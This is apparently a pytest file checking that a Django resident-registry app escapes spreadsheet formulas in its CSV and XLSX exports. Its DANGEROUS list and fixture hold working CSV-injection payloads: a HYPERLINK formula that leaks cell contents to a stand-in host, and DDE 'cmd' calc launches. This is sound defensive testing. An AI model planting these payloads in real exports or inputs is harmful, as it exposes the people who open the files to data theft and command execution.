"""Every CSV/XLSX export escapes spreadsheet formulas (issue #12 hostile files, #17 M10): a cell
that starts with = + - @, a tab or a carriage return never reaches Excel or LibreOffice as a
formula. One helper (sodsong.core.exports) for every export: the audit CSV, the residents CSV
and XLSX, the rejected rows of an import, the indicator workbook."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from sodsong.core import exports

DANGEROUS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_the_helper_neutralises_every_formula_start(value) -> None:
    assert exports.csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["สมชาย", "12", "", "a=b", "+66812345678", "1-2"])
def test_the_helper_leaves_plain_values_and_phone_numbers(value) -> None:
    assert exports.csv_cell(value) == value


def _assert_xlsx_safe(data: bytes) -> list[str]:
    """Every text cell of every sheet is a string, and one that looks like a formula carries
    Excel's quote prefix (it stays text when edited); no formula anywhere in the file."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = load_workbook(io.BytesIO(data))
    seen = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    seen.append(cell.value)
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    if exports.looks_like_formula(cell.value):
                        assert cell.quotePrefix, (cell.coordinate, cell.value)
    return seen


def test_the_indicator_workbook_escapes_formulas() -> None:
    from sodsong.documents.letter import Column, Table
    from sodsong.documents.xlsx import indicator_workbook

    table = Table(
        columns=(Column("=HEADER()"), Column("จำนวน", numeric=True)),
        rows=tuple((value, 1) for value in DANGEROUS),
        title="@title",
    )
    seen = _assert_xlsx_safe(indicator_workbook([table], title="-รายงาน", demo=False))
    for value in DANGEROUS:
        assert any(value.strip() in s or value in s for s in seen), value


def test_the_rejected_rows_workbook_escapes_formulas() -> None:
    from sodsong.survey.importing.jobs import rejected_xlsx

    data = rejected_xlsx(["ชื่อ"], [([value], "=reason") for value in DANGEROUS])
    seen = _assert_xlsx_safe(data)
    assert {v.strip() for v in DANGEROUS} <= {v.strip() for v in seen}  # cell text is trimmed


@pytest.fixture
def evil_resident(personas):  # type: ignore[no-untyped-def]
    from sodsong.geo.models import Area
    from sodsong.people.models import DocumentType
    from sodsong.people.services import DocumentInput
    from sodsong.survey import services

    village = Area.objects.get(
        role_assignments__user=personas.headman, role_assignments__role="headman", level="village"
    )
    return services.resident_register(
        user=personas.headman,
        area=village,
        given_name_latin=DANGEROUS[0],
        family_name_latin="@SUM(1+1)",
        documents=[DocumentInput(DocumentType.PASSPORT, "MMR", "EV123456")],
        occupation="-2+3+cmd|' /C calc'!A0",
        phones=["0812345678"],
    )


def test_the_residents_xlsx_export_escapes_formulas(personas, login, evil_resident) -> None:
    response = login(personas.district).post(
        "/survey/export/", {"format": "xlsx", "purpose": "รายงานจังหวัด"}
    )
    assert response.status_code == 200
    seen = _assert_xlsx_safe(response.content)
    assert DANGEROUS[0] in seen and "@SUM(1+1)" in seen


def test_the_residents_csv_export_escapes_formulas(personas, login, evil_resident) -> None:
    response = login(personas.district).post(
        "/survey/export/", {"format": "csv", "purpose": "รายงานจังหวัด"}
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert "'" + DANGEROUS[0] in cells and "'-2+3+cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if exports.looks_like_formula(c) and not c.startswith("+66")]


@pytest.mark.parametrize("value", DANGEROUS)
def test_the_audit_csv_escapes_formulas(personas, login, value) -> None:
    from sodsong.audit.services import log_action
    from sodsong.core.context import acting_for

    with acting_for(personas.province):
        log_action(action="read", object_type="people.person", object_ids=[value], purpose=value)
    response = login(personas.province).get("/audit/export.csv?purpose=ตรวจสอบ")
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [c for r in csv.reader(io.StringIO(content, newline="")) for c in r]
    assert "'" + value in cells
    assert not [c for c in cells if exports.looks_like_formula(c)]
